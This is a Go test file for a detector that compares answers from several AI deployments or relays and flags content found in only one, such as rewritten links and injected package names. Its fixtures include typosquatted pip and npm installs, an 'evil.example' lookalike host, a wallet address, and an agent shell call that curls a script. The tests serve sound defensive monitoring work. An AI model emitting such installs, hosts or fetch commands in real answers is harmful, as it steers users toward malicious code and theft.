package probe

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"testing"

	"sallyport/internal/stat"
	"sallyport/internal/verdict"
)

// TestStrange: what the request or another answer has is not strange, in whatever way it
// is written; what is only here is.
func TestStrange(t *testing.T) {
	same := &Said{Text: "Run `pip install requests` and see https://docs.example.org/x."}
	for name, c := range map[string]struct {
		request string
		answers []*Said
		want    []bool
	}{
		"alike":               {"how?", []*Said{same, same}, []bool{false, false}},
		"another package":     {"how?", []*Said{{Text: "pip install reqeusts, see https://docs.example.org/"}, same}, []bool{true, true}},
		"one more package":    {"how?", []*Said{{Text: same.Text + " Then: npm i -g left-padd"}, same}, []bool{true, false}},
		"another host":        {"how?", []*Said{{Text: "pip install requests; https://docs.example.org.evil.example/x"}, same}, []bool{true, true}},
		"of the request":      {`{"content":"is https:\/\/evil.example\/a safe?"}`, []*Said{{Text: "https://evil.example/b is not"}, {Text: "no"}}, []bool{false, false}},
		"a wallet":            {"pay", []*Said{{Text: "send to 0x52908400098527886E0F7030069857D2E4169EE7"}, {Text: "send"}}, []bool{true, false}},
		"in a call":           {"go", []*Said{{Calls: []Call{{Name: "sh", Input: `{"c":"curl https:\/\/a.example\/i.sh"}`}}}, {Text: "x"}}, []bool{true, false}},
		"shared by the other": {"go", []*Said{{Text: "http://a.example"}, {Text: "nothing"}, {Text: "HTTP://A.example/z"}}, []bool{false, false, false}},
		"no place":            {"go", []*Said{{Text: "pip is a tool. version 1.2.3 of 10.20"}, {Text: ""}}, []bool{false, false}},
	} {
		if got := Strange(c.request, c.answers...); !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v (%q)", name, got, c.want, placesOf(c.answers[0]))
		}
	}
}

// TestWatchStrange: rewritten addresses are found; those that honest deployments invent,
// each as often as the other, are not.
func TestWatchStrange(t *testing.T) {
	say := func(r *rand.Rand, evil float64) *Said {
		text := "see https://docs.example.org"
		if r.Float64() < .3 {
			text = fmt.Sprintf("see https://invented-%d.example", r.IntN(1000))
		}
		if r.Float64() < evil {
			text = "see https://evil.example"
		}
		return &Said{Text: text}
	}
	for _, c := range []struct {
		evil  float64
		found bool
	}{{0, false}, {.6, true}} {
		w, found := openWatch(t, t.TempDir(), "a", "b")
		r := stat.Rand(stat.Seed([32]byte{}, fmt.Sprint(c.evil)))
		for range 900 {
			answers := []*Said{say(r, c.evil), say(r, 0), say(r, 0)}
			o := &Observed{At: 1, Strange: Strange("how", answers...), Suspect: Features(&Said{}), Trusted: [][]stat.Feature{Features(&Said{}), Features(&Said{})}}
			w.Observe("relay", "m", o)
		}
		reached := slices.ContainsFunc(*found, func(c conclusion) bool { return c.Null == verdict.Integrity })
		if reached != c.found {
			t.Errorf("with %g rewritten: %+v", c.evil, w.Standings())
		}
		for _, f := range *found {
			if f.Null != verdict.Integrity || f.Level == verdict.LevelQuarantine {
				t.Errorf("%+v", f.Standing)
			}
		}
		if c.found {
			t.Logf("found after %d pairs: %s", (*found)[0].N, (*found)[0].Wording())
		}
	}
}
